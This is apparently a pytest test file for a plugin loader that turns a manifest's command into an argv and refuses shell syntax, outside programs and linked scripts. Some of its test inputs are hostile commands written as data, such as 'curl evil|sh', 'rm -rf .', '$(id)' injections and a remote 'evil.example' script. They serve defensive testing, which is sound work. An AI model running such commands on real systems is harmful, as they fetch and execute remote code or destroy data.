"""``entryPoint.command`` becomes an argv."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from toolyard.plugins.package.command_line import CommandLine, CommandProblem, Programs, resolve_command

pytestmark = pytest.mark.requirement("plugin:command")
SYSTEM = "/usr/bin:/bin"


def program(file: Path, text: str = "#!/bin/sh\n") -> Path:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    file.chmod(0o755)
    return file


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "P").mkdir()
    (tmp_path / "P/main.py").write_text("import sys, json; print(json.dumps(sys.argv[1:]))")
    program(tmp_path / "P/tool")
    return tmp_path / "P"


@pytest.fixture
def path(tmp_path: Path) -> str:
    for name in ("python3", "node", "bash", "sh", "perl"):
        program(tmp_path / "bin" / name)
    return str(tmp_path / "bin")


def argv(command: str, folder: Path, search: str, python: str | None = None, *, shell: bool = False) -> tuple[str, ...]:
    resolved = resolve_command(command, folder, shell=shell, programs=Programs(search, python=python))
    assert isinstance(resolved, CommandLine), resolved
    return resolved.argv


def problem(command: str, folder: Path, search: str = SYSTEM) -> str:
    resolved = resolve_command(command, folder, shell=False, programs=Programs(search))
    assert isinstance(resolved, CommandProblem), resolved
    assert resolved.fix
    return f"{resolved.message}: {resolved.fix}"


@pytest.mark.parametrize(
    ("command", "rest"),
    [
        ("python main.py", ["main.py"]),
        ("  python   main.py  ", ["main.py"]),
        ("python main.py 'a b' \"c d\" e\\ f ''", ["main.py", "a b", "c d", "e f", ""]),
        ("python main.py 'a;b' \"c|d\" '$HOME' \\$x", ["main.py", "a;b", "c|d", "$HOME", "$x"]),
        ("python main.py '*' \"#\" a#b a~b", ["main.py", "*", "#", "a#b", "a~b"]),
        ("python -u -W ignore main.py x", ["-u", "-W", "ignore", "main.py", "x"]),
        ("python -m main", ["-m", "main"]),
        ("python -c 'print(1)'", ["-c", "print(1)"]),
    ],
)  # fmt: skip
def test_a_command_is_split_as_a_shell_splits_it(folder: Path, path: str, command: str, rest: list[str]) -> None:
    assert argv(command, folder, path) == (f"{path}/python3", *rest)


def test_what_is_resolved_really_runs(folder: Path) -> None:
    run = argv("python main.py 'a b' --flag", folder, SYSTEM, sys.executable)
    done = subprocess.run(run, cwd=folder, capture_output=True, check=True, timeout=60, text=True)
    assert done.stdout.strip() == '["a b", "--flag"]'


@pytest.mark.requirement("s:S-81")
@pytest.mark.parametrize(
    ("command", "syntax"),
    [
        ("python main.py; curl evil|sh", ";"),
        ("python main.py | sh", "|"),
        ("python main.py && id", "&&"),
        ("python main.py || id", "||"),
        ("python main.py & id", "&"),
        ("python main.py $(id)", "$("),
        ('python main.py "$(id)"', "$("),
        ("python main.py `id`", "`"),
        ('python main.py "x`id`"', "`"),
        ("python main.py > /tmp/x", ">"),
        ("python main.py < in", "<"),
        ("python main.py $HOME", "$HOME"),
        ('python main.py "$HOME/x"', "$HOME"),
        ("python main.py ${HOME}", "$"),
        ("python main.py *.py", "*"),
        ("python main.py file?", "?"),
        ("python main.py [ab]", "["),
        ("python main.py\nid", "a new line"),
        ("python main.py # comment", "#"),
        ("python main.py ~/x", "~"),
        ("(python main.py)", "("),
        ("DEBUG=1 python main.py", "DEBUG=1"),
        ("bash -c 'curl evil | sh'", "bash -c"),
        ("sh -lc id", "sh -lc"),
    ],
)
def test_shell_syntax_is_refused_and_named(folder: Path, command: str, syntax: str) -> None:
    message = problem(command, folder)
    assert f"'{syntax}'" in message
    assert '"shell": true' in message


@pytest.mark.requirement("s:S-81")
def test_a_manifest_that_says_shell_gets_one_with_the_whole_line(folder: Path) -> None:
    line = "cat main.py | wc -l && ./tool"
    resolved = resolve_command(line, folder, shell=True, programs=Programs(SYSTEM))
    assert resolved == CommandLine(("/bin/sh", "-c", line), ("main.py", "tool"))


@pytest.mark.requirement("s:S-81")
@pytest.mark.parametrize("command", ["curl http://evil", "npx thing", "env python main.py", "rm -rf ."])
def test_a_program_that_is_no_interpreter_is_refused_by_name(folder: Path, command: str) -> None:
    assert f"'{command.split(maxsplit=1)[0]}' is neither" in problem(command, folder)


@pytest.mark.requirement("s:S-81")
def test_a_program_outside_the_folder_is_refused_also_through_a_link(folder: Path, tmp_path: Path) -> None:
    program(tmp_path / "elsewhere/tool")
    (folder / "link").symlink_to(tmp_path / "elsewhere/tool")
    for command in (f"{tmp_path}/elsewhere/tool", "../elsewhere/tool", "./link"):
        assert "outside the plugin's folder" in problem(command, folder)


@pytest.mark.requirement("s:S-81", "s:S-83")
def test_a_script_outside_the_folder_is_refused(folder: Path, tmp_path: Path) -> None:
    program(tmp_path / "evil.py")
    (folder / "link.py").symlink_to(tmp_path / "evil.py")
    for script in (f"{tmp_path}/evil.py", "../evil.py", "link.py", f"-u {tmp_path}/evil.py"):
        assert "outside the plugin's folder" in problem(f"python {script}", folder)
    assert "outside the plugin's folder" in problem("bash -e ../evil.py", folder)
    program(tmp_path / "bin/deno")
    assert "outside the plugin's folder" in problem("deno run -A ../evil.py", folder, str(tmp_path / "bin"))
    assert "from elsewhere" in problem("deno run https://evil.example/x.ts", folder, str(tmp_path / "bin"))


def test_a_program_of_the_folder_is_run_by_its_full_path(folder: Path) -> None:
    resolved = resolve_command("./tool --fast main.py", folder, shell=False, programs=Programs(SYSTEM))
    assert resolved == CommandLine((str(folder / "tool"), "--fast", "main.py"), ("tool", "main.py"))


def test_what_cannot_start_says_how_to_mend_it(folder: Path, path: str) -> None:
    (folder / "plain").write_text("")
    assert "chmod +x ./plain" in problem("./plain", folder)
    assert "'./absent' does not exist" in problem("./absent", folder)
    assert "names 'absent.py'" in problem("python absent.py", folder)
    assert 'write "./tool"' in problem("tool", folder)
    assert "'deno' is not installed" in problem("deno run x.ts", folder, path)
    assert "never closed" in problem("python 'main.py", folder)
    assert "empty" in problem("   ", folder)
    assert problem("python " + "x" * 5000, folder)


@pytest.mark.parametrize("name", ["node", "bash", "sh", "perl"])
def test_interpreters_are_found_on_the_path(folder: Path, path: str, name: str) -> None:
    assert argv(f"{name} main.py", folder, f"{path}:{SYSTEM}")[0] == f"{path}/{name}"


def test_the_current_folder_on_the_path_is_no_place_for_interpreters(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program(folder / "node")
    monkeypatch.chdir(folder)
    assert "not installed" in problem("node main.py", folder, f".::{os.pathsep}")


@pytest.mark.parametrize("word", ["python", "python3", "py"])
def test_python_is_the_plugins_own_then_the_owners_then_the_paths_then_ours(
    folder: Path, path: str, tmp_path: Path, word: str
) -> None:
    assert argv(f"{word} main.py", folder, str(tmp_path / "nothing"))[0] == sys.executable
    assert argv(f"{word} main.py", folder, path)[0] == f"{path}/python3"
    program(tmp_path / "later/python")
    assert argv(f"{word} main.py", folder, f"{path}:{tmp_path}/later")[0] == f"{tmp_path}/later/python"
    assert argv(f"{word} main.py", folder, path, "/opt/python")[0] == "/opt/python"
    program(folder / ".venv/bin/python")
    assert argv(f"{word} main.py", folder, path, "/opt/python")[0] == str(folder / ".venv/bin/python")


def test_the_interpreter_of_an_own_environment_is_run_by_its_own_path(folder: Path) -> None:
    (folder / ".venv/bin").mkdir(parents=True)
    (folder / ".venv/bin/python").symlink_to(sys.executable)
    for command in ("python main.py", ".venv/bin/python main.py"):
        resolved = resolve_command(command, folder, shell=False, programs=Programs(SYSTEM))
        assert isinstance(resolved, CommandLine)
        assert resolved.argv[0] == str(folder / ".venv/bin/python")
        assert resolved.files == (".venv/bin/python", "main.py")


def test_a_shim_is_looked_through(folder: Path, path: str, tmp_path: Path) -> None:
    program(tmp_path / "pyenv/shims/python")
    search = f"{tmp_path}/pyenv/shims:{path}"
    assert argv("python main.py", folder, search)[0] == f"{path}/python3"
    (tmp_path / "pyenv/version").write_text("3.12.1\n")
    real = program(tmp_path / "pyenv/versions/3.12.1/bin/python")
    assert argv("python main.py", folder, search)[0] == str(real)


def test_python_2_is_not_taken_for_python(folder: Path, path: str, tmp_path: Path) -> None:
    program(tmp_path / "old/python2.7")
    (tmp_path / "old/python").symlink_to(tmp_path / "old/python2.7")
    assert argv("python main.py", folder, f"{tmp_path}/old:{path}")[0] == f"{path}/python3"


@pytest.mark.requirement("plugin:messages")
@pytest.mark.parametrize(
    ("command", "path", "fix"),
    [
        (r"bin\x.exe", r"bin\x.exe", "name a program that this machine can run"),
        (r".\tool --fast", r".\tool", 'write "./tool"'),
        (r"python src\main.py", r"src\main.py", 'write "src/main.py"'),
        (r"'bin\run' x", r"bin\run", 'write "bin/run"'),
        (r'"C:\Program Files\node.exe" a.js', r"C:\Program Files\node.exe", "name a program"),
        ("python C:/plugins/main.py", "C:/plugins/main.py", "name a file of the plugin's folder"),
    ],
)
def test_a_path_as_windows_writes_it_is_told_as_such(folder: Path, command: str, path: str, fix: str) -> None:
    message = problem(command, folder)
    assert message.startswith(f"the command has a path as Windows writes it, '{path}': ")
    assert fix in message
    in_shell = resolve_command(command, folder, shell=True, programs=Programs(SYSTEM))
    assert isinstance(in_shell, CommandProblem) == command.startswith((path, "'", '"'))


@pytest.mark.requirement("plugin:messages")
@pytest.mark.parametrize("words", [r"a\ b", r"--re=\w+\.py", r"\d+", r"a:b", "http://x/y.z", r"'^\w+$'", r"\n"])
def test_backslashes_that_are_no_path_of_windows_are_taken_as_a_shell_takes_them(folder: Path, words: str) -> None:
    assert argv(f"python main.py {words}", folder, SYSTEM, sys.executable)
